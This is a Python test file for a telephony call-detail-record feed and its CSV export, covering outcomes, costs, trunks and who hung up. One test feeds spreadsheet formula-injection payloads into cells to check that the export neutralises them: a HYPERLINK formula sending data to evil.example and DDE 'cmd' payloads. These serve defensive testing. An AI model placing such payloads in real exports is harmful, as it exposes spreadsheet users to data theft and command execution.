"""The row that accounts for a call, whatever became of it."""

from __future__ import annotations

import csv
from dataclasses import fields, replace
from io import StringIO

import pytest

from cordboard.calls.causes import Cause
from cordboard.calls.charged import charged_event
from cordboard.calls.credit import Charge, Payer, Settlement
from cordboard.calls.events import CallResult, EventKind, Outcome
from cordboard.calls.request import Address, Leg
from cordboard.directory.charging import PrefixPrice
from cordboard.engines.far_end import IS_BUSY, RINGS, Behaviour, FarEnd
from cordboard.feeds.cdr import COLUMNS, Cdr, cdr_of
from cordboard.feeds.cdr_csv import header, rows
from cordboard.journal.port import CallRecord
from support.quick_house import QuickHouse
from support.tenants import DOMAIN

pytestmark = pytest.mark.anyio

DECLINES: Behaviour = ((0.0, FarEnd.ring), (0.0, lambda far: far.reject(603, "Decline")))


async def row(house: QuickHouse, call: str) -> Cdr:
    events = await house.events(call)
    return cdr_of(await house.record(call), events)


async def test_a_conversation() -> None:
    house = QuickHouse()
    house.when("jessica-soft", RINGS)
    found = await row(house, await house.talk())
    assert (found.first_kind, found.first_name, found.first_number) == ("user", "jessica", "1001")
    assert (found.second_kind, found.second_name, found.second_number) == ("user", "thomas", "1002")
    assert (found.outcome, found.leg, found.cause) == ("completed", "second", "normal")
    assert found.hung_up_by == "second"
    assert (found.account, found.dialect, found.method) == ("main", "basix", "call_user")
    times = [
        found.accepted_at,
        found.started_at,
        found.first_answered_at,
        found.second_answered_at,
        found.bridged_at,
        found.ended_at,
    ]
    assert None not in times
    assert times == sorted(times, key=lambda at: at or 0.0)
    assert found.talk_seconds is not None


async def test_a_call_costs_what_its_legs_have_cost_together() -> None:
    house = QuickHouse()
    call = await house.talk()
    assert (await row(house, call)).cost is None
    price = Charge(Payer(DOMAIN), PrefixPrice(""))
    charged = [
        charged_event(call, leg, None, f"{call}/{leg.value}", Settlement(price, amount, 10))
        for leg, amount in ((Leg.FIRST, 1_250_000), (Leg.SECOND, 3))
    ]
    await house.journal.commit(DOMAIN, charged)
    assert (await row(house, call)).cost == 1_250_003


async def test_who_was_shown_what_through_which_trunk() -> None:
    house = QuickHouse()
    call = await house.place(second=Address("0312341234"))
    found = await row(house, call)
    assert (found.second_kind, found.second_number) == ("number", "0312341234")
    assert found.second_trunk == "first"
    assert found.second_caller_number
    assert found.outcome is None
    assert found.ended_at is None


async def test_a_trunk_that_refused_is_not_the_one_in_the_row() -> None:
    house = QuickHouse()
    call = await house.place(second=Address("0312341234"))
    through = (await house.events(call, EventKind.CHANNEL_DIALLED))[-1].event
    assert through.data["trunk"] == "first"
    house.engine.far(str(through.channel)).reject(503, "Service Unavailable")
    assert (await row(house, call)).second_trunk == "second"


@pytest.mark.parametrize(
    ("first", "second", "outcome", "cause", "hung_up_by"),
    [
        (IS_BUSY, IS_BUSY, "first_leg_failed", "busy", None),
        (DECLINES, IS_BUSY, "first_leg_failed", "rejected", None),
    ],
)
async def test_a_call_that_nobody_answered_has_its_row(
    first: Behaviour, second: Behaviour, outcome: str, cause: str, hung_up_by: str | None
) -> None:
    house = QuickHouse()
    house.when("jessica-desk", first)
    house.when("jessica-soft", first)
    house.when("thomas", second)
    found = await row(house, await house.place())
    assert (found.outcome, found.cause, found.hung_up_by) == (outcome, cause, hung_up_by)
    assert found.first_answered_at is None
    assert found.bridged_at is None
    assert found.ended_at is not None
    assert found.talk_seconds == 0.0


@pytest.mark.parametrize("ringing", [True, False], ids=["ringing", "bridged"])
async def test_a_client_hung_up(ringing: bool) -> None:
    house = QuickHouse()
    if ringing:
        house.when("jessica-desk", RINGS)
        house.when("jessica-soft", RINGS)
    call = await house.place()
    assert house.exchange.hang_up(DOMAIN, call)
    found = await row(house, call)
    assert found.hung_up_by == "client"
    assert found.outcome == ("cancelled" if ringing else "completed")


@pytest.mark.parametrize(
    ("result", "hung_up_by"),
    [
        (CallResult(Outcome.COMPLETED, Cause.NORMAL, "bridged", Leg.FIRST), "first"),
        (CallResult(Outcome.COMPLETED, Cause.DURATION_LIMIT, "bridged"), "server"),
        (CallResult(Outcome.COMPLETED, Cause.MEDIA_TIMEOUT, "bridged"), "server"),
        (CallResult(Outcome.CANCELLED, Cause.NORMAL, "ringing_second", Leg.FIRST), "first"),
        (
            CallResult(Outcome.CANCELLED, Cause.DURATION_LIMIT, "ringing_second", Leg.SECOND),
            "server",
        ),
        (CallResult(Outcome.SECOND_LEG_FAILED, Cause.CANCELLED, "ringing_second"), "server"),
        (CallResult(Outcome.INTERRUPTED, Cause.INTERRUPTED, "bridged"), "server"),
        (CallResult(Outcome.FIRST_LEG_FAILED, Cause.CANCELLED, "ringing_first"), None),
        (CallResult(Outcome.REFUSED, Cause.INTERRUPTED, "accepted"), None),
    ],
)
async def test_who_hung_up_by_the_result(result: CallResult, hung_up_by: str | None) -> None:
    house = QuickHouse()
    house.when("jessica-desk", RINGS)
    house.when("jessica-soft", RINGS)
    call = await house.place()
    record = replace(await house.record(call), result=result.as_dict(), ended_at=9.0)
    found = cdr_of(record, await house.events(call))
    assert found.hung_up_by == hung_up_by


def test_every_column_is_a_field_and_the_other_way_round() -> None:
    assert header() == (",".join(COLUMNS) + "\r\n").encode()
    assert set(COLUMNS) == {field.name for field in fields(Cdr)}


def plain(**more: object) -> Cdr:
    values: dict[str, object] = dict.fromkeys(COLUMNS)
    values.update(id="c1", account="main", dialect="v1", method="calls", accepted_at=1.5)
    return Cdr(**{**values, **more})  # type: ignore[arg-type]  # as the columns are named


def read_back(cdr: Cdr) -> dict[str, str]:
    text = (header() + rows([cdr])).decode()
    assert text.endswith("\r\n")
    (found,) = csv.DictReader(StringIO(text, newline=""))
    return found


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+SUM(1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        "|calc",
        "+1+1",
    ],
)
def test_no_cell_is_a_formula(text: str) -> None:
    found = read_back(plain(external_id=text, second_name=text))
    assert found["external_id"] == f"'{text}"
    assert found["second_name"] == f"'{text}"


@pytest.mark.parametrize("text", ["+81312341234", "0312341234", "-1", "Jones, Jessica", 'a "b"'])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert read_back(plain(second_number=text))["second_number"] == text


def test_text_of_any_script_and_lines_in_a_cell() -> None:
    found = read_back(plain(first_name="山田\r\n太郎, 営業", talk_seconds=2.5, sip_status=486))
    assert found["first_name"] == "山田\r\n太郎, 営業"
    assert found["talk_seconds"] == "2.500"
    assert found["sip_status"] == "486"
    assert found["accepted_at"] == "1970-01-01T00:00:01.500Z"
    assert found["ended_at"] == ""


def test_a_row_of_nothing_but_the_record() -> None:
    """Events may be gone, or never have come."""
    found = cdr_of(CallRecord("c1", DOMAIN, "main", "v1", "calls", 1.0, ()), ())
    assert found.first_kind is None
    assert found.outcome is None
